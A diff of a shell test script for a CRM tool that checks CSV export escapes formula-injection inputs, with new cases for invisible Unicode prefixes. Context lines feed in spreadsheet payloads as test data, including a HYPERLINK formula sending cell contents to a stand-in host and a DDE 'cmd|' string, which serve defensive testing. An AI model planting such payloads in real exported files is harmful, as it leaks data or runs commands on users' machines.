@@ -50,6 +50,10 @@ notes "$(printf '\rx')" "$(printf "\"'\rx\"")"
 notes "$(printf '\n=1')" "$(printf "\"'\n=1\"")"
 notes ' =1' "\"' =1\""
 notes "$(printf '\302\240=1')" "$(printf "'\302\240=1")"
+notes "$(printf '\302\240\342\200\213=1')" "$(printf "'\302\240\342\200\213=1")" # a blank without width
+notes "$(printf '\357\273\277@x')" "$(printf "'\357\273\277@x")" # a byte order mark
+notes "$(printf "'\342\200\216-x")" "$(printf "''\342\200\216-x")" # a mark of direction
+notes "$(printf '\342\200\213x=')" "$(printf '\342\200\213x=')"
 crm-product add -q name=Rabatt sku='-10' price=-5.50
 is 'a negative number is a number, the same as text is none' "$(crm-product list -f sheet -c sku,price | row)" "'-10;-5,50"
 crm-lead intake -q name='=HYPERLINK("http://x.example/?"&A1,"click")' email=x@x.example message='@SUM(1+1)*cmd|x!A0' phone='0171 2345678' source='=cmd' company_name='+x'
